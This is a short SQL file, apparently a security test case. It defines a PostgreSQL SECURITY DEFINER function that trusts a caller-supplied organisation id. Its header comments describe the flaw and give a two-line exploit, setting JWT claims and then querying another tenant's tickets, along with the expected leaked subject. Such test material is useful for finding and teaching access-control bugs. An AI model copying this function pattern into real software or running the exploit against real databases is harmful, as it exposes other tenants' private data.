-- The RPC takes the organisation from its caller and runs with its owner's rights; any org id works.
-- about: search_tickets, tickets
-- as: hf_deskline_app
-- exploit: SET request.jwt.claims = '{"sub":"a0000000-0000-4000-8000-000000000001","role":"authenticated"}';
-- exploit: SELECT * FROM public.search_tickets('b0000000-0000-4000-8000-000000000000', '');
-- shows: Road-secret subject
CREATE FUNCTION public.search_tickets(p_org uuid, p_text text)
RETURNS TABLE (id uuid, subject text) LANGUAGE sql STABLE SECURITY DEFINER
SET search_path = pg_catalog, pg_temp
AS $$
  SELECT t.id, t.subject FROM public.tickets t
  WHERE t.org_id = p_org AND t.subject ILIKE '%' || p_text || '%'
$$;
REVOKE EXECUTE ON FUNCTION public.search_tickets(uuid, text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION public.search_tickets(uuid, text) TO hf_deskline_app;
